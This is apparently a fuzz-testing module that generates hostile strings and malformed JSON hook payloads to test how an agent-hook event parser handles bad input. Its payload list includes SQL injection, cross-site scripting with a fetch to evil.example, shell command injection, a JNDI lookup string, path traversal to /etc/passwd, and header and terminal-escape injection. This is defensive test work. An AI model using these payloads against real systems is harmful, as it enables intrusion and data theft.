import { HOOK_EVENT_NAMES } from "../../../src/core/event.ts";
import type { Random } from "../../bench/redact-random.ts";
import { hostileTexts } from "./texts.ts";

/** Texts with a meaning for SQL, HTML, a shell, a terminal, a file system, a log or a template. */
const MEANINGFUL: readonly [string, ...string[]] = [
  "'; DROP TABLE events; --",
  '" OR 1=1 --',
  "%' UNION SELECT payload FROM payloads --",
  "<script>alert(1)</script>",
  "\"><img src=x onerror='fetch(`//evil.example`)'>",
  "</title><svg/onload=alert(1)>",
  "javascript:alert(1)",
  "$(touch pwned)`touch pwned`;touch pwned|touch pwned",
  "${jndi:ldap://evil.example/x}{{7*7}}<%= 7*7 %>",
  "\u001b]0;pwned\u0007\u001b[2J\u001b[31m",
  "../../../../etc/passwd",
  "..\\..\\..\\windows\\win.ini",
  "/proc/self/environ",
  "/dev/zero",
  "file:///etc/passwd",
  "CON",
  "\u0000",
  "a\u0000b",
  "\r\nSet-Cookie: pwned=1\r\n\r\n",
  "\u202egnp.exe",
  "\ud800",
  "\udfff\ud800",
  "\ufeff",
  "@everyone <@123456789012345678>",
  "__proto__",
  "constructor",
  "hasOwnProperty",
  "%00%2e%2e%2f",
  "%",
  "*",
  "\u{1f600}".repeat(300),
  "-1",
  "NaN",
  "9".repeat(400),
];

const NUMBERS = [
  "1e400",
  "-1e400",
  "-0",
  "9007199254740993",
  "1e-400",
  "9".repeat(400),
  "0.1e1",
  "2147483648",
] as const;

const FIELDS = [
  "session_id",
  "hook_event_name",
  "transcript_path",
  "cwd",
  "tool_name",
  "tool_use_id",
  "tool_input",
  "tool_response",
  "prompt",
  "agent_id",
  "agent_type",
  "agent_transcript_path",
  "message",
  "reason",
  "error",
  "duration_ms",
  "permission_mode",
  "last_assistant_message",
  "background_tasks",
  "__proto__",
  "constructor",
  "toString",
] as const;

export interface PayloadMaker {
  /** A hostile text. */
  text(): string;
  /** Bytes of an invalid hook payload, or of a valid one that looks invalid. */
  payload(): Buffer;
}

/** Payloads of a hostile repository, tool or user; the same seed gives the same ones. */
export function createPayloadMaker(random: Random): PayloadMaker {
  const texts = hostileTexts(300, random.below(1_000_000));

  function text(): string {
    const one = random.below(3) === 0 ? random.pick(MEANINGFUL) : (texts[random.below(texts.length)] ?? "");
    return random.below(40) === 0 ? one.repeat(1 + random.below(2_000)).slice(0, 100_000) : one;
  }

  /** JSON as text: some of it cannot be represented as a value in memory. */
  function json(depth: number): string {
    switch (random.below(depth > 0 ? 9 : 6)) {
      case 0:
        return random.pick(NUMBERS);
      case 1:
        return random.pick(["true", "null", "[]", "{}"]);
      case 2:
        return `"\\ud8${random.text("0123456789ab", 2)}${random.text("xyz ", 3)}"`;
      case 6:
        return `[${Array.from({ length: random.below(6) }, () => json(depth - 1)).join()}]`;
      case 7:
      case 8:
        return object(depth - 1);
      default:
        return JSON.stringify(text());
    }
  }

  function object(depth: number): string {
    const members = Array.from({ length: random.below(6) }, () => {
      const name = random.below(2) === 0 ? random.pick(FIELDS) : text().slice(0, 5_000);
      return `${JSON.stringify(name)}:${json(depth)}`;
    });
    return `{${members.join()}}`;
  }

  /** With a session and an event, so that it passes the first validation. */
  function plausible(): string {
    const known = [
      `"session_id":${JSON.stringify(random.below(3) === 0 ? text().slice(0, 200) || "s" : `session-${random.below(50)}`)}`,
      `"hook_event_name":${JSON.stringify(random.below(8) === 0 ? text().slice(0, 100) || "x" : random.pick(HOOK_EVENT_NAMES))}`,
    ];
    const more = Array.from(
      { length: random.below(8) },
      () => `${JSON.stringify(random.pick(FIELDS.slice(2) as [string]))}:${json(4)}`,
    );
    return `{${[...known, ...more].join()}}`;
  }

  function payload(): Buffer {
    const whole = plausible();
    switch (random.below(12)) {
      case 0:
        return Buffer.from(whole.slice(0, random.below(whole.length)));
      case 1:
        return Buffer.from(object(4));
      case 2: {
        const depth = 1 + random.below(20_000);
        return Buffer.from(
          `{"session_id":"deep","hook_event_name":"Stop","x":${"[".repeat(depth)}${"]".repeat(depth)}}`,
        );
      }
      case 3: {
        const bytes = Buffer.from(whole);
        for (let hit = 0; hit < 4; hit++) bytes[random.below(bytes.length)] = random.below(256);
        return bytes;
      }
      case 4:
        return Buffer.from(`\ufeff ${whole} `);
      case 5:
        return Buffer.from(
          `{${`"k${random.below(9)}":1,`.repeat(random.below(3_000))}"session_id":"many","hook_event_name":"Stop"}`,
        );
      default:
        return Buffer.from(whole);
    }
  }

  return { text, payload };
}
